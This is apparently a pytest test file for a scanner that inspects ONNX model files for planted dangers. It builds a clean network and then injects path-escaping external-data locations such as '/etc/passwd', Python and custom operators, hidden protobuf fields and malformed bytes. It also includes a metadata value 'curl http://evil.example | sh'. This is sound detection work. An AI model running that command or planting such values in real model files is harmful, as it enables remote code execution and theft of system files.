"""ONNX: what exporters write is silent; what hides beside it is not."""

import os

import numpy as np
import pytest
from format_items import at_path, hostile, item_of, results, rules, severities, survives

from mithridate.core.results import Severity

onnx = pytest.importorskip("onnx")
from onnx import TensorProto, helper, numpy_helper  # noqa: E402

F = TensorProto.FLOAT
INFO, SUSPICIOUS, LIKELY = Severity.INFO, Severity.SUSPICIOUS, Severity.LIKELY


def _branch(name, value):
    out = helper.make_tensor_value_info(f"{name}_out", F, [2])
    constant = helper.make_node(
        "Constant", [], [f"{name}_out"], value=helper.make_tensor(f"{name}_c", F, [2], [value, value])
    )
    return helper.make_graph([constant], name, [], [out])


def net():
    """A net with tensors of many types, a subgraph, a local function and metadata."""
    weights = [
        numpy_helper.from_array(np.ones((2, 2), np.float32), "w"),
        helper.make_tensor("b", F, [2], [0.5, 1.0]),
        helper.make_tensor("i", TensorProto.INT64, [3], [1, -2, 300_000]),
        helper.make_tensor("h", TensorProto.FLOAT16, [3], [1.0, 2.0, 3.0]),
        helper.make_tensor("q", TensorProto.INT4, [3], [1, 2, 3]),
        helper.make_tensor("c", TensorProto.COMPLEX64, [2], [1j, 2j]),
        helper.make_tensor("s", TensorProto.STRING, [2], ["a", "b"]),
        helper.make_tensor("d", TensorProto.DOUBLE, [], [1.0]),
        numpy_helper.from_array(np.zeros((0, 4), np.float32), "e"),
        numpy_helper.from_array(np.array(True), "cond"),
    ]
    nodes = [
        helper.make_node("Gemm", ["x", "w", "b"], ["y"], name="gemm", alpha=1.5),
        helper.make_node("If", ["cond"], ["z"], then_branch=_branch("t", 1.0), else_branch=_branch("f", 2.0)),
        helper.make_node("twice", ["y"], ["y2"], domain="local"),
        helper.make_node("Add", ["y2", "z"], ["out"]),
        helper.make_node("FusedMatMul", ["x", "w"], ["m"], domain="com.microsoft"),
    ]
    nodes[0].doc_string = 'File "net.py", line 3, in forward\n  return self.head(x)  # https://example.org'
    value = [helper.make_tensor_value_info(n, F, ["n", 2]) for n in ("x", "out")]
    graph = helper.make_graph(nodes, "net", value[:1], value[1:], weights)
    twice = helper.make_function(
        "local",
        "twice",
        ["a"],
        ["b"],
        [helper.make_node("Add", ["a", "a"], ["b"])],
        [helper.make_opsetid("", 18)],
    )
    opsets = [
        helper.make_opsetid("", 18),
        helper.make_opsetid("local", 1),
        helper.make_opsetid("com.microsoft", 1),
    ]
    model = helper.make_model(graph, functions=[twice], opset_imports=opsets, producer_name="pytorch")
    helper.set_model_props(model, {"source": "https://example.org"})
    return model


def _item(model):
    content = model if isinstance(model, bytes) else model.SerializeToString()
    return item_of(content, "onnx", "m.onnx")


def _edit(change):
    model = net()
    change(model)
    return model


def _shadow(model, name="Relu", domain=""):
    node = helper.make_node("Neg", ["a"], ["b"])
    model.functions.append(
        helper.make_function(domain, name, ["a"], ["b"], [node], [helper.make_opsetid("", 18)])
    )


def _in_function(model):
    constant = helper.make_node("Constant", [], ["k"], value=helper.make_tensor("k", F, [1], [1.0]))
    constant.attribute[0].t.raw_data = b"\0\0\0\0"
    model.functions[0].node.append(constant)


def _in_branch(model):
    tensor = model.graph.node[1].attribute[0].g.node[0].attribute[0].t
    tensor.float_data.append(3.0)


def _external(location, **more):
    def change(model):
        tensor = model.graph.initializer[0]
        tensor.ClearField("raw_data")
        tensor.data_location = TensorProto.EXTERNAL
        for key, value in {"location": location, **more}.items():
            entry = tensor.external_data.add()
            entry.key, entry.value = key, str(value)

    return change


def _node(op, domain=""):
    return lambda m: m.graph.node.append(helper.make_node(op, ["x"], ["p"], domain=domain))


PLANTED = {
    "double": (lambda m: m.graph.initializer[0].float_data.extend([1, 2, 3, 4]), "DOUBLE_DATA", SUSPICIOUS),
    "double in a function": (_in_function, "DOUBLE_DATA", SUSPICIOUS),
    "size in a branch": (_in_branch, "SIZE_LIE", SUSPICIOUS),
    "raw size": (lambda m: m.graph.initializer[0].dims.append(2), "SIZE_LIE", SUSPICIOUS),
    "values": (lambda m: m.graph.initializer[2].int64_data.append(5), "SIZE_LIE", SUSPICIOUS),
    "external and inside": (
        lambda m: _external("w.bin")(m) or setattr(m.graph.initializer[0], "raw_data", b"\0" * 16),
        "DOUBLE_DATA",
        SUSPICIOUS,
    ),
    "absolute": (_external("/etc/passwd"), "EXTERNAL_ESCAPE", LIKELY),
    "parent": (_external("a/../../b"), "EXTERNAL_ESCAPE", LIKELY),
    "windows": (_external("..\\b"), "EXTERNAL_ESCAPE", LIKELY),
    "drive": (_external("C:\\b"), "EXTERNAL_ESCAPE", LIKELY),
    "no location": (_external(""), "EXTERNAL_ESCAPE", LIKELY),
    "python": (_node("PyOp", "ai.onnx.contrib"), "PYTHON_OPERATOR", LIKELY),
    "python of ort": (_node("PythonOp", "com.microsoft"), "PYTHON_OPERATOR", LIKELY),
    "custom": (_node("Evil", "evil.corp"), "CUSTOM_OPERATOR", SUSPICIOUS),
    "extension": (_node("StringUpper", "ai.onnx.contrib"), "CUSTOM_OPERATOR", INFO),
    "unknown": (_node("Reluu"), "UNKNOWN_OPERATOR", SUSPICIOUS),
    "custom in a branch": (
        lambda m: m.graph.node[1].attribute[0].g.node.append(helper.make_node("Evil", [], ["p"], domain="e")),
        "CUSTOM_OPERATOR",
        SUSPICIOUS,
    ),
    "custom in a function": (
        lambda m: m.functions[0].node.append(helper.make_node("Evil", [], ["p"], domain="e")),
        "CUSTOM_OPERATOR",
        SUSPICIOUS,
    ),
    "name twice": (lambda m: m.graph.initializer.append(m.graph.initializer[1]), "NAME_TWICE", SUSPICIOUS),
    "training": (
        lambda m: m.training_info.add().algorithm.node.append(helper.make_node("Relu", ["x"], ["r"])),
        "TRAINING_INFO",
        INFO,
    ),
    "command": (
        lambda m: helper.set_model_props(m, {"a": "curl http://evil.example | sh"}),
        "METADATA_COMMAND",
        INFO,
    ),
    "hidden text": (lambda m: setattr(m.graph.node[0], "doc_string", "a\u200bb"), "METADATA_INVISIBLE", INFO),
    "unused": (lambda m: _shadow(m, "f", "local"), "UNUSED_FUNCTION", INFO),
}


@pytest.mark.parametrize("name", PLANTED)
def test_planted(name):
    change, rule, severity = PLANTED[name]
    found = severities("onnx-structure", _item(_edit(change)))
    assert found[rule] is severity
    assert set(found) == {rule}


def test_ordinary():
    assert results("onnx-structure", _item(net())) == []


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (lambda m: _shadow(m), {"SHADOWED_OPERATOR": LIKELY}),
        (lambda m: _shadow(m, "Gelu", "com.microsoft"), {"SHADOWED_OPERATOR": SUSPICIOUS}),
        (lambda m: _shadow(m, "twice", "local"), {"FUNCTION_TWICE": SUSPICIOUS}),
    ],
)
def test_functions_in_place_of_operators(change, expected):
    found = severities("onnx-structure", _item(_edit(change)))
    found.pop("UNUSED_FUNCTION", None)
    assert found == expected


def _field(number, payload):
    return bytes([number << 3 & 0x7F | 2 | 0x80, number >> 4]) + bytes([len(payload)]) + payload


@pytest.mark.parametrize(
    ("extra", "rule"),
    [
        (_field(99, b"#!/bin/sh"), "UNKNOWN_FIELD"),
        (bytes([14 << 3, 5]), "UNKNOWN_FIELD"),  # metadata as a number
        (b"\x12\1a", "FIELD_TWICE"),  # a second producer
        (
            b"\x3a" + bytes([len(_field(77, b"x"))]) + _field(77, b"x"),
            "UNKNOWN_FIELD",
        ),  # merged into the graph
        (b"\x3a\0", "FIELD_TWICE"),  # a second graph
    ],
)
def test_what_generated_readers_do_not_show(extra, rule):
    content = net().SerializeToString() + extra
    onnx.load_model_from_string(content)
    assert rule in rules("onnx-structure", _item(content), SUSPICIOUS)


def test_unknown_fields_anywhere():
    for message in (
        "graph.node[0]",
        "graph.input[0].type.tensor_type.shape",
        "functions[0]",
        "graph.initializer[3]",
    ):
        model = net()
        eval(f"model.{message}", {"model": model}).MergeFromString(_field(99, b"x"))  # noqa: S307
        assert rules("onnx-structure", _item(model)) == {"UNKNOWN_FIELD"}, message


def test_newer_versions_are_skipped():
    def newer(model):
        model.opset_import[0].version = 99
        _node("Frobnicate")(model)

    assert rules("onnx-structure", _item(_edit(newer))) == {"skip"}
    assert rules("onnx-structure", _item(_edit(lambda m: setattr(m, "ir_version", 99)))) == {"skip"}


@pytest.fixture
def folder(tmp_path):
    (tmp_path / "w.bin").write_bytes(b"\0" * 16)
    (tmp_path / "m.onnx").write_bytes(_edit(_external("w.bin", offset=0, length=16)).SerializeToString())
    return tmp_path


def test_external_data(folder):
    item = at_path(folder / "m.onnx", "onnx")
    data = folder / "w.bin"
    assert results("onnx-structure", item) == []
    assert rules("onnx-structure", _item((folder / "m.onnx").read_bytes())) == {"skip"}  # in an archive
    data.write_bytes(b"\0" * 15)
    assert rules("onnx-structure", item) == {"skip"}
    data.unlink()
    assert rules("onnx-structure", item) == {"skip"}
    (folder / "x").write_bytes(b"\0" * 16)
    data.symlink_to("x")
    assert rules("onnx-structure", item, SUSPICIOUS) == {"EXTERNAL_LINK"}
    data.unlink()
    os.link(folder / "x", data)
    assert severities("onnx-structure", item) == {"EXTERNAL_HARD_LINK": INFO}
    data.unlink()
    data.mkdir()
    assert rules("onnx-structure", item) == {"EXTERNAL_LINK"}


def test_links_of_the_cache_are_ordinary(tmp_path):
    snapshot, blobs = tmp_path / "snapshots" / "abc", tmp_path / "blobs"
    snapshot.mkdir(parents=True)
    blobs.mkdir()
    (blobs / "0123").write_bytes(b"\0" * 16)
    (snapshot / "w.bin").symlink_to("../../blobs/0123")
    (snapshot / "m.onnx").write_bytes(_edit(_external("w.bin")).SerializeToString())
    assert results("onnx-structure", at_path(snapshot / "m.onnx", "onnx")) == []


def test_links_on_the_way(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "w.bin").write_bytes(b"\0" * 16)
    (tmp_path / "data").symlink_to("real")
    (tmp_path / "m.onnx").write_bytes(_edit(_external("data/w.bin")).SerializeToString())
    assert rules("onnx-structure", at_path(tmp_path / "m.onnx", "onnx")) == {"EXTERNAL_LINK"}


def test_values_are_not_read():
    """A tensor of 1 GiB that is not there costs nothing; the file is found to be cut off."""
    tensor = b"\x08\x01\x10\x01" + b"\x4a" + b"\x80\x80\x80\x80\x04" + b"\0" * 100
    assert rules("onnx-structure", _item(tensor)) == {"skip"}


def _nested(depth):
    content = b""
    for _ in range(depth):
        content = b"".join(_message(number, content) for number in (6,))
        content = _message(5, content)  # attribute of a node
        content = _message(1, content)  # node of a graph
    return _message(7, content)


def _message(number, content):
    length, size = len(content), b""
    while length >= 0x80:
        size += bytes([length & 0x7F | 0x80])
        length >>= 7
    return bytes([number << 3 | 2]) + size + bytes([length]) + content


@pytest.mark.parametrize(
    "content",
    [
        _nested(400),
        b"\xff" * 40,
        b"\x3a\xff\xff\xff\xff\x0f",
        b"\x00\x00",
        b"\x0b\x0c",
        b"\x08" + b"\x80" * 20,
    ],
    ids=["deep", "ones", "long", "zero", "group", "endless number"],
)
def test_hostile(content):
    assert rules("onnx-structure", _item(content)) == {"skip"}


def test_many_fields_end():
    survives("onnx-structure", "onnx", [b"\x3a\x80\x80\x04" + b"\x0a\0" * 32_768, b"\x08\1" * 30_000])


def test_any_bytes():
    survives("onnx-structure", "onnx", hostile(net().SerializeToString(), span=2000))


def test_nets_of_torch(tmp_path):
    torch = pytest.importorskip("torch")
    import warnings

    module = torch.nn.Sequential(
        torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2), torch.nn.Flatten(), torch.nn.Linear(18, 2)
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.onnx.export(module.eval(), torch.zeros(1, 1, 5, 5), tmp_path / "m.onnx", dynamo=False)
    assert results("onnx-structure", at_path(tmp_path / "m.onnx", "onnx")) == []
